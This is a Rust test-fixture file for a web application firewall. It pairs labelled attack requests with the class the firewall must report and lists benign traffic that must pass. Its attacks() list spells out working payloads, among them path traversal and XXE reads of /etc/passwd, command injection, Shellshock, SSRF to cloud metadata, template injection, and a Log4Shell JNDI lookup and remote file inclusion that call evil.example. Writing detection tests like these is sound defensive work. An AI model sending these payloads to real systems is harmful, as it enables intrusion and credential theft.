//! Shared request cases for the class tests (native `classes_engine` and wasm
//! `wasm_classes`): attacks with the class they must be reported as, and realistic benign
//! traffic that must stay below the threshold.
#![allow(dead_code)]

use mirror_waf::request::HttpRequest;

pub fn req(method: &str, uri: &str, headers: &[(&str, &str)], body: &str) -> HttpRequest {
    let mut hs: Vec<(String, Vec<u8>)> = vec![
        ("host".into(), b"shop.example.com".to_vec()),
        ("user-agent".into(), b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36".to_vec()),
        ("accept".into(), b"*/*".to_vec()),
    ];
    for (n, v) in headers {
        hs.retain(|(k, _)| k != n);
        hs.push((n.to_string(), v.as_bytes().to_vec()));
    }
    if !body.is_empty() && !headers.iter().any(|(n, _)| *n == "content-type") {
        hs.push(("content-type".into(), b"application/x-www-form-urlencoded".to_vec()));
    }
    HttpRequest { method: method.into(), uri: uri.into(), headers: hs, body: body.as_bytes().to_vec(), body_bytes: body.len() as u64, body_truncated: false }
}

/// (class, request) pairs: each must be an attack reported with that class at PL1.
pub fn attacks() -> Vec<(&'static str, HttpRequest)> {
    let json = &[("content-type", "application/json")];
    let xml = &[("content-type", "application/xml")];
    vec![
        ("traversal", req("GET", "/download?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd", &[], "")),
        ("traversal", req("GET", "/download?file=%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afboot.ini", &[], "")),
        ("traversal", req("GET", "/x?f=%fc%80%80%80%80%ae%fc%80%80%80%80%ae%c1%1cetc%c1%1cpasswd", &[], "")),
        ("rfi", req("GET", "/index.php?page=http://evil.example/shell.txt?", &[], "")),
        ("rce", req("GET", "/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd", &[], "")),
        ("rce", req("POST", "/api/run", json, r#"{"host": "8.8.8.8 && whoami"}"#)),
        ("rce", req("GET", "/", &[("user-agent", "() { :;}; /bin/bash -c 'id'")], "")),
        ("ssrf", req("POST", "/api/webhooks", json, r#"{"url": "http://169.254.169.254/latest/meta-data/iam/"}"#)),
        ("ssrf", req("GET", "/fetch?url=http://2130706433/admin", &[], "")),
        ("ssti", req("GET", "/hello?name=%7B%7B7*7%7D%7D", &[], "")),
        ("ssti", req("POST", "/render", &[], "tpl=%7B%7B%27%27.__class__.__mro__%5B1%5D.__subclasses__()%7D%7D")),
        ("nosqli", req("POST", "/login", json, r#"{"username": "admin", "password": {"$ne": null}}"#)),
        ("nosqli", req("GET", "/login?user=admin&pass%5B%24ne%5D=x", &[], "")),
        ("ldapi", req("GET", "/people?uid=*)(uid=*))(|(uid=*", &[], "")),
        ("ldapi", req("POST", "/login", json, r#"{"username": ")", "password": "x"}"#)),
        ("xxe", req("POST", "/api/import", xml, r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#)),
        ("jndi", req("GET", "/", &[("x-api-version", "${${lower:j}ndi:ldap://evil.example/a}")], "")),
        ("crlf", req("GET", "/redirect?to=%2Fhome%0D%0ASet-Cookie%3A%20sid%3Devil", &[], "")),
        ("php", req("POST", "/profile", &[], "data=O%3A8%3A%22stdClass%22%3A1%3A%7Bs%3A1%3A%22a%22%3Bs%3A1%3A%22b%22%3B%7D")),
        ("php", req("GET", "/view?page=php://filter/convert.base64-encode/resource=index.php", &[], "")),
        ("java", req("POST", "/api/session", &[("content-type", "text/plain")], "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg==")),
        ("java", req("POST", "/login.action", &[], "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x")),
        ("js", req("GET", "/search?q=x&filter%5B__proto__%5D%5BisAdmin%5D=true", &[], "")),
        ("js", req("POST", "/api/settings", json, r#"{"theme":"dark","constructor":{"prototype":{"isAdmin":true}}}"#)),
        ("js", req("GET", "/calc?expr=while(!0)%3B", &[], "")),
        ("session", req("GET", "/login?JSESSIONID=0123456789ABCDEF", &[("referer", "https://mail.evil.example/inbox")], "")),
    ]
}

/// Benign requests (JSON APIs, forms, prose, browser headers, uploads, XML).
pub fn benign() -> Vec<HttpRequest> {
    let json = &[("content-type", "application/json")];
    vec![
        req("GET", "/search?q=salt+%26+pepper%3B+black+%7C+white&page=2", &[], ""),
        req("GET", "/login?next=https%3A%2F%2Fwww.example.com%2Faccount%3Ftab%3Dorders", &[], ""),
        req("GET", "/docs/../index.html", &[], ""),
        req("GET", "/static/js/app.3f2a1c.js", &[("referer", "https://shop.example.com/cart?id=42&coupon=SPRING")], ""),
        req("GET", "/", &[("user-agent", "Opera/9.80 (X11; Linux x86_64; U; id) Presto/2.8.119 Version/11.10")], ""),
        req("GET", "/", &[("user-agent", "Mozilla/5.0 (Windows NT 6.3; WOW64; Trident/7.0; Touch; rv:11.0) like Gecko")], ""),
        req("POST", "/api/orders", json, r#"{"items":[{"sku":"A-100","qty":2,"price":"$19.99"}],"note":"Leave at door; ring twice | thanks!","email":"alice@example.com"}"#),
        req("POST", "/api/products", json, r#"{"_id":{"$oid":"507f1f77bcf86cd799439011"},"$schema":"https://json-schema.org/draft/2020-12/schema","name":"Widget (large)"}"#),
        req("POST", "/api/templates", json, r#"{"subject":"Hello {{first_name}}","body":"Your order {{order.id}} ships on {{ship_date}}."}"#),
        req("POST", "/api/webhooks", json, r#"{"url":"https://hooks.example.org/notify","events":["order.created"]}"#),
        req("POST", "/comments", &[], "author=Bob&comment=I+tried+it%3B+it+works.+Tom+%26+Jerry+agree+%7C+5%2F5.%0D%0AThanks%21"),
        req("POST", "/contact", &[], "name=J.+O%27Brien&msg=Meet+at+10%3A30%3B+bring+the+docs+(v2.1)+%26+notes."),
        req("POST", "/api/errors", json, r#"{"trace":"java.lang.NullPointerException\n\tat com.example.Foo.bar(Foo.java:42)\n\tat java.lang.Thread.run(Thread.java:748)"}"#),
        req("POST", "/api/code", json, r#"{"snippet":"for (let i = 0; i < n; i++) { sum += a[i]; }","lang":"js"}"#),
        req("POST", "/api/feedback", json, r#"{"text":"Run `ls -la` in your home dir; then cat the README | less. See https://docs.example.com/setup?step=2"}"#),
        req("GET", "/files?path=%2Fhome%2Fuser%2Fdocuments%2Freport.pdf", &[], ""),
        req("GET", "/cal?date=2024-01-01&tz=Europe%2FParis&range=%5B1%2C7%5D", &[], ""),
        req("GET", "/jobs?filter=(status%3Dopen)(team%3Dcore)", &[], ""),
        req("GET", "/people?q=(&sort=%7C&filter=*&cn=Jane+Doe+(IT)&user=j.doe", &[], ""),
        req("POST", "/upload", &[("content-type", "multipart/form-data; boundary=XyZ")], "--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"photo.jpg\"\r\nContent-Type: image/jpeg\r\n\r\nÿØÿà JFIF binary\r\n--XyZ--\r\n"),
        req("POST", "/api/xml", &[("content-type", "application/xml")], r#"<?xml version="1.0"?><order id="7"><item sku="A&amp;B">2</item></order>"#),
        req("GET", "/price?amount=%245&note=costs+%245+(cheap)", &[], ""),
        req("GET", "/wiki?title=Localhost&ref=https%3A%2F%2Fen.wikipedia.org%2Fwiki%2FLocalhost", &[], ""),
        req("POST", "/api/cars", json, r#"{"constructor":"Ferrari","model":"F40","prototype":false,"notes":"The __proto__ property is deprecated, see the Object.prototype docs."}"#),
        req("POST", "/api/code", json, r#"{"snippet":"while (queue.length) { process(queue.shift()); }","lang":"js"}"#),
        req("GET", "/account?session_token=abc123&sessions=3", &[], ""),
        req("GET", "/login?PHPSESSID=abc123", &[("referer", "https://shop.example.com/cart")], ""),
    ]
}
